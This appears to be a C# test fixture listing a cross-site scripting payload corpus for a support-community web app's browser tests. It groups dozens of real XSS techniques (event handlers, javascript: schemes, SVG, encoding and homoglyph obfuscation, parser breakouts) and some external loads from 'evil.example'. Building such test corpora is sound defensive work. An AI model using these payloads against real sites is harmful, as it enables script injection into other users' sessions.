namespace SupportCommunity.Browser.Tests.Xss;

/// <summary>One hostile input, and the family it belongs to.</summary>
public sealed record XssPayload(string Group, string Text)
{
    public override string ToString() => $"{Group}: {Text}";
}

/// <summary>
/// The XSS corpus (issue 8, item 2): inputs a hostile member, customer or display name might send, grouped by the
/// trick they try. If any of them ever ran, it would call a marker the browser tests hook before the app's scripts
/// run (<c>alert</c>, <c>confirm</c>, <c>prompt</c>, <c>print</c>, <c>top.__pwned()</c> or <c>window.__xss.push</c>),
/// load something from another origin (<c>evil.example</c>), or leave markup in the page that the DOM checks flag.
/// Every payload is sent as it is written here; the app's normalisation (NFC, control characters removed) applies.
/// </summary>
public static class XssCorpus
{
    public static readonly IReadOnlyList<XssPayload> All =
    [
        // Script elements: plain, mixed case, external, split by a nested tag, inside markdown emphasis.
        new("script", "<script>alert(1)</script>"),
        new("script", "<ScRiPt>top.__pwned()</sCrIpT>"),
        new("script", "<script src=https://evil.example/x.js></script>"),
        new("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        new("script", "**bold** <script>window.__xss.push(1)</script> *and* `code`"),

        // Event handlers on elements HTML allows almost anywhere.
        new("event handler", "<img src=x onerror=alert(1)>"),
        new("event handler", "<img src=x onerror=\"top.__pwned()\">"),
        new("event handler", "<body onload=alert(1)>"),
        new("event handler", "<div onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">hover me</div>"),
        new("event handler", "<details open ontoggle=top.__pwned()>x</details>"),
        new("event handler", "<input autofocus onfocus=alert(1)>"),
        new("event handler", "<video><source onerror=\"alert(1)\"></video>"),

        // URL schemes that run script or smuggle a document, as raw HTML and as markdown links.
        new("scheme", "<a href=\"javascript:alert(1)\">click</a>"),
        new("scheme", "[click me](javascript:alert(1))"),
        new("scheme", "[click me](JaVaScRiPt:top.__pwned())"),
        new("scheme", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        new("scheme", "[click me](vbscript:msgbox(1))"),
        new("scheme", "<javascript:alert(1)>"),
        new("scheme", "[ref link][x]\n\n[x]: javascript:alert(1) \"title\""),

        // SVG: handlers, script inside svg, xlink:href, SMIL animation rewriting an href.
        new("svg", "<svg onload=alert(1)>"),
        new("svg", "<svg><script>top.__pwned()</script></svg>"),
        new("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">tap</text></a></svg>"),
        new("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        new("svg", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>tap</text></a></svg>"),

        // Entities: encoded tags and encoded schemes, decoded by the markdown parser or the browser.
        new("entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        new("entity", "&#60;img src=x onerror=alert(1)&#62;"),
        new("entity", "[click me](&#106;avascript:alert(1))"),
        new("entity", "[click me](javascript&colon;alert(1))"),
        new("entity", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>"),

        // Markdown link and image tricks: title breakouts, markup in link text and alt, external and traversing images.
        new("markdown", "[a](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")"),
        new("markdown", "[<img src=x onerror=alert(1)>](https://example.com)"),
        new("markdown", "![x\" onerror=\"alert(1)](/attachments/x.png)"),
        new("markdown", "![tracker](https://evil.example/pixel.png)"),
        new("markdown", "![x](/attachments/x.png\" onerror=\"alert(1))"),
        new("markdown", "![up](/attachments/../api/rooms)"),
        new("markdown", "![js](javascript:alert(1))"),
        new("markdown", "https://example.com/\"onmouseover=\"alert(1)\"><script>alert(1)</script>"),
        new("markdown", "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```"),

        // Mixed case, whitespace, null bytes and control characters inside tags and schemes.
        new("obfuscation", "<IMG SRC=JaVaScRiPt:alert(1)>"),
        new("obfuscation", "<img\nsrc=x\nonerror=alert(1)>"),
        new("obfuscation", "<img/src=x/onerror=alert(1)>"),
        new("obfuscation", "<scr\0ipt>alert(1)</scr\0ipt>"),
        new("obfuscation", "[click me](java\0script:alert(1))"),
        new("obfuscation", "[click me](java\tscript:alert(1))"),
        new("obfuscation", "<a href=\" &#14; javascript:alert(1)\">x</a>"),
        new("obfuscation", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">"),

        // HTML comments and CDATA hiding a tag from a naive filter; a fake Blazor component marker.
        new("comment", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
        new("comment", "<!-- --!><img src=x onerror=top.__pwned()>"),
        new("comment", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
        new("comment", "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->"),

        // Frames and plugins: srcdoc documents, javascript: frames, object and embed.
        new("frame", "<iframe srcdoc=\"<script>top.__pwned()</script>\"></iframe>"),
        new("frame", "<iframe srcdoc=\"&lt;img src=x onerror=top.__pwned()&gt;\"></iframe>"),
        new("frame", "<iframe src=\"javascript:alert(1)\"></iframe>"),
        new("frame", "<object data=\"javascript:alert(1)\"></object><embed src=\"data:text/html,<script>alert(1)</script>\">"),

        // Parser-differential breakouts: math/svg namespaces, style and other raw-text elements.
        new("breakout", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        new("breakout", "<math><a xlink:href=\"javascript:alert(1)\">tap</a></math>"),
        new("breakout", "<style></style><img src=x onerror=alert(1)>"),
        new("breakout", "</style><img src=x onerror=alert(1)>"),
        new("breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        new("breakout", "</textarea><script>alert(1)</script>"),
        new("breakout", "</title><script>alert(1)</script>"),

        // CSS: legacy expression(), url() in style attributes and sheets, @import from another origin.
        new("css", "<div style=\"width:expression(alert(1))\">x</div>"),
        new("css", "<div style=\"background:url('https://evil.example/t.png')\">x</div>"),
        new("css", "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>"),

        // Unicode look-alikes of "javascript": Cyrillic letters, fullwidth letters, a zero-width joiner.
        new("homoglyph", "[click me](j\u0430v\u0430script:alert(1))"),
        new("homoglyph", "[click me](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))"),
        new("homoglyph", "[click me](java\u200Dscript:alert(1))"),

        // Attribute breakouts: text that closes the attribute or element it is placed in.
        new("attribute", "\"><img src=x onerror=alert(1)>"),
        new("attribute", "'><svg onload=top.__pwned()>"),
        new("attribute", "\" autofocus onfocus=\"alert(1)"),
        new("attribute", "</div></div></article><img src=x onerror=alert(1)>"),

        // Client-side template syntax, in case anything ever evaluates it.
        new("template", "{{constructor.constructor('alert(1)')()}} ${alert(1)} @(alert(1))"),
    ];

    /// <summary>Display names (2 to 64 characters, like sign-up): shown as authors, reporters, targets, requesters.</summary>
    public static readonly IReadOnlyList<string> DisplayNames =
    [
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=top.__pwned()>",
        "<script>alert(1)</script>",
        "[Verify account](javascript:alert(1))",
        "</span><iframe srcdoc=\"<script>top.__pwned()</script>\">",
        "{{constructor.constructor('alert(1)')()}}",
    ];
}
